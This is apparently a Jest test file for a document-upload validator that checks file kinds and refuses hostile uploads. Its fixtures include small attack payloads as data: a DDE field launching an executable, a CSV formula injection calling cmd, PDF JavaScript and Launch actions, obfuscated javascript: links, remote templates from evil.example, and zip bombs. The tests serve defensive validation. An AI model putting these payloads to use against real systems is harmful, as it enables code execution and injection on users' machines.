import { createHash } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import { deflatedZeros, type Part, scratch, workbookParts, zip } from '@cuadre/tables/fixtures/make'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import { NamedError } from '../errors.ts'
import { isMessage } from '../messages/index.ts'
import { imageOf } from './image.fixture.ts'
import { image } from './image.ts'
import { type DocumentKind, document } from './index.ts'

// Workbooks and texts are read in a worker, which is slow to start on a busy machine.
jest.setTimeout(240_000)
let folder: Awaited<ReturnType<typeof scratch>>
beforeAll(async () => {
  folder = await scratch()
})
afterAll(() => folder.remove())

const ALL: DocumentKind[] = ['xlsx', 'docx', 'pptx', 'pdf', 'html', 'csv', 'txt', 'png', 'jpeg', 'webp']
async function upload(name: string, content: string | Buffer) {
  const bytes = Buffer.from(content)
  return { path: await folder.file(name, bytes), name, size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') }
}
async function outcome(work: Promise<unknown>): Promise<unknown> {
  try {
    return await work
  } catch (error) {
    if (!(error instanceof NamedError)) throw error
    expect(error.status).toBe(422)
    expect(isMessage(error.code)).toBe(true)
    return error.code
  }
}
const read = async (name: string, content: string | Buffer, allowed = ALL, mb = 20) =>
  outcome(document(await upload(name, content), allowed, mb))

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const types: Part = { name: '[Content_Types].xml', content: '<Types><Default Extension="xml" ContentType="application/xml"/></Types>' }
const word = (body: string, ...more: Part[]) =>
  zip([types, { name: 'word/document.xml', content: `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>` }, ...more])
const relations = (type: string, target: string): Part => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships xmlns="${PACKAGE}"><Relationship Id="r1" Type="${REL}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
})
const sheet = (...more: Part[]) => zip([...workbookParts('<row r="1"><c r="A1"><v>1</v></c></row>'), ...more])
const ole = (...texts: Buffer[]) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), ...texts])
const pdf = (objects: string | Buffer) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(objects), Buffer.from('\ntrailer <</Root 1 0 R>>\n%%EOF\n')])

describe('a sound document is what its extension says', () => {
  test.each<[string, string, string | Buffer]>([
    ['xlsx', 'a.xlsx', sheet()],
    ['docx', 'a.docx', word('<w:p><w:r><w:t>Informe</w:t></w:r></w:p>', relations('hyperlink', 'https://corporacion.example'))],
    ['pdf', 'a.PDF', pdf('1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit] >> endobj')],
    ['html', 'a.html', '<!doctype html><html><body><a href="https://corporacion.example">Hola</a> función on 3 = 4</body></html>'],
    ['html', 'a.htm', '<table><tr><td>x</td></tr></table>'],
    ['csv', 'a.csv', 'Cuenta;Saldo\n1;-1.234,50\n2;+3\n3;-\n'],
    ['txt', 'a.txt', '- nota\n= otra\n'],
    ['png', 'a.png', imageOf('png')],
    ['jpeg', 'a.jpg', imageOf('jpeg')],
    ['webp', 'a.webp', imageOf('webp')],
  ])('%s (%s)', async (kind, name, content) => {
    expect(await read(name, content)).toBe(kind)
  })
})

describe('a hostile document is refused', () => {
  test.each<[string, string, string | Buffer, string]>([
    ['a workbook with macros', 'a.xlsx', sheet({ name: 'xl/vbaProject.bin', content: 'x' }), 'document_active'],
    ['a workbook of macros by its extension', 'a.xlsm', sheet(), 'document_active'],
    [
      'a workbook that says it has macros',
      'a.xlsx',
      zip(
        workbookParts('').map((p) =>
          p.name.startsWith('[')
            ? { ...p, content: '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>' }
            : p,
        ),
      ),
      'document_active',
    ],
    ['a workbook with controls', 'a.xlsx', sheet({ name: 'xl/activeX/activeX1.bin', content: 'x' }), 'document_active'],
    [
      'a workbook that links to another',
      'a.xlsx',
      sheet({ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }),
      'document_outside',
    ],
    ['a workbook that asks a database', 'a.xlsx', sheet({ name: 'xl/connections.xml', content: '<x/>' }), 'document_outside'],
    ['a workbook with a password', 'a.xlsx', ole(Buffer.from('EncryptedPackage', 'utf16le')), 'file_cifrado'],
    ['a zip with a password', 'a.docx', zip([{ ...types, flags: 1 }]), 'file_cifrado'],
    ['a letter with macros', 'a.docx', word('', { name: 'word/vbaProject.bin', content: 'x' }), 'document_active'],
    [
      'a letter with an object of another program',
      'a.docx',
      word('', { name: 'word/embeddings/oleObject1.bin', content: 'x' }),
      'document_active',
    ],
    [
      'a letter with a template from the net',
      'a.docx',
      word('', relations('attachedTemplate', 'https://evil.example/t.dotm')),
      'document_outside',
    ],
    ['a letter with a picture from the net', 'a.docx', word('', relations('image', 'https://evil.example/p.png')), 'document_outside'],
    ['a letter whose link opens a share', 'a.docx', word('', relations('hyperlink', 'file://evil/x')), 'document_outside'],
    [
      'a letter that starts a program, its field cut in two',
      'a.docx',
      word('<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x.exe</w:instrText>'),
      'document_active',
    ],
    [
      'a letter that fetches a picture by a field',
      'a.docx',
      word('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/p&quot;"/>'),
      'document_outside',
    ],
    [
      'a bomb',
      'a.docx',
      word('', { name: 'word/media/x.bin', content: '', raw: deflatedZeros(64), declaredSize: 64 * 1024 * 1024 }),
      'file_bomba',
    ],
    [
      'a bomb that lies about its size',
      'a.docx',
      word('', { name: 'word/media/x.bin', content: 'x', raw: deflatedZeros(16), declaredSize: 10 }),
      'file_bomba',
    ],
    [
      'a document with a document type',
      'a.docx',
      word('', { name: 'word/x.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }),
      'file_danado',
    ],
    ['a workbook called a letter', 'a.docx', sheet(), 'file_extension'],
    ['a letter called a workbook', 'a.xlsx', word(''), 'file_extension'],
    ['text called a letter', 'a.docx', 'hola', 'file_extension'],
    ['a program called a PDF', 'a.pdf', Buffer.from('MZ\x90\0\x03'), 'file_extension'],
    ['a PDF with a script', 'a.pdf', pdf('1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>> >> endobj'), 'document_active'],
    ['a PDF whose script hides its name', 'a.pdf', pdf('1 0 obj <</S /J#61vaScript>> endobj'), 'document_active'],
    [
      'a PDF whose script is packed',
      'a.pdf',
      pdf(
        Buffer.concat([
          Buffer.from('4 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n'),
          deflateSync('<</S /Launch /F (cmd.exe)>>'),
          Buffer.from('\nendstream endobj'),
        ]),
      ),
      'document_active',
    ],
    [
      'a PDF that unfolds without end',
      'a.pdf',
      pdf(
        Buffer.concat([
          Buffer.from('4 0 obj <</Type /ObjStm>>\nstream\n'),
          deflateSync(Buffer.alloc(20 * 1024 * 1024)),
          Buffer.from('\nendstream endobj'),
        ]),
      ),
      'file_bomba',
    ],
    ['a PDF with a file within', 'a.pdf', pdf('1 0 obj <</Names <</EmbeddedFiles 2 0 R>> >> endobj'), 'document_active'],
    ['a PDF with a password', 'a.pdf', pdf('1 0 obj <</Encrypt 9 0 R>> endobj'), 'file_cifrado'],
    ['half a PDF', 'a.pdf', '%PDF-1.7\n1 0 obj <<>>', 'file_truncado'],
    ['a page with a script', 'a.html', '<html><script>alert(1)</script></html>', 'document_active'],
    ['a page with a handler', 'a.html', '<html><img src="data:," onerror=alert(1)></html>', 'document_active'],
    [
      'a page with a link that runs, its letters as numbers',
      'a.html',
      '<html><a href="&#106;ava&#x73;cript&colon;alert(1)">x</a></html>',
      'document_active',
    ],
    ['a page with a link that runs, cut by a tab', 'a.html', '<html><a href="java&Tab;script:alert(1)">x</a></html>', 'document_active'],
    ['a page that fetches', 'a.html', '<html><img src="//evil.example/x.png"></html>', 'document_outside'],
    ['a page whose style fetches', 'a.html', '<html><p style="background:url(https://evil.example/x)">x</p></html>', 'document_outside'],
    ['text called a page', 'a.html', 'hola', 'file_extension'],
    ['text with a formula', 'a.csv', 'Cuenta;Nombre\n1;"=cmd|\' /C calc\'!A0"\n', 'document_formula'],
    ['text with a formula that begins with a sign', 'a.csv', 'Cuenta;Nombre\n1;-HYPERLINK("x")\n', 'document_formula'],
    ['a page called text', 'a.csv', '<html><body>x</body></html>', 'file_extension'],
    ['a picture with scripts', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'document_kind'],
    ['a program', 'a.exe', 'MZ', 'document_kind'],
    ['an empty file', 'a.pdf', '', 'file_vacio'],
  ])('%s', async (_, name, content, code) => {
    expect(await read(name, content)).toBe(code)
  })

  test('one that is too large, or of a kind that the place does not take', async () => {
    expect(await read('a.txt', 'x'.repeat(1024 * 1024 + 1), ALL, 1)).toBe('document_large')
    expect(await read('a.html', '<html></html>', ['pdf'])).toBe('document_kind')
  })
})

describe('an image', () => {
  const look = async (name: string, content: Buffer | string, mb?: number) => outcome(image(await upload(name, content), mb))

  test('is PNG, JPEG or WebP by its content, with its size', async () => {
    expect(await look('a.png', imageOf('png'))).toEqual({ kind: 'png', type: 'image/png', width: 2, height: 3 })
    expect(await look('a.JPG', imageOf('jpeg'))).toEqual({ kind: 'jpeg', type: 'image/jpeg', width: 2, height: 3 })
    expect(await look('a.webp', imageOf('webp'))).toEqual({ kind: 'webp', type: 'image/webp', width: 2, height: 3 })
  })

  test('of another kind, name or shape is refused', async () => {
    const png = imageOf('png')
    expect(await look('a.svg', '<svg/>')).toBe('image_kind')
    expect(await look('a.png', '<svg/>')).toBe('image_kind')
    expect(await look('a.jpg', png)).toBe('image_kind')
    expect(await look('a.gif', 'GIF89a')).toBe('image_kind')
    expect(await look('a.png', '')).toBe('file_vacio')
    expect(await look('a.png', png.subarray(0, -5))).toBe('image_damaged')
    expect(await look('a.png', Buffer.concat([png, Buffer.from('<script>')]))).toBe('image_damaged')
    expect(await look('a.jpg', Buffer.concat([imageOf('jpeg'), Buffer.from('PK\x03\x04')]))).toBe('image_damaged')
    expect(await look('a.webp', imageOf('webp').subarray(0, -2))).toBe('image_damaged')
    expect(await look('a.png', Buffer.concat([png, Buffer.alloc(1024 * 1024)]), 1)).toBe('image_large')
    const wide = imageOf('png')
    wide.writeUInt32BE(60_000, 16)
    wide.writeUInt32BE(crc32(wide.subarray(12, 29)), 29)
    expect(await look('a.png', wide)).toBe('image_pixels')
  })
})
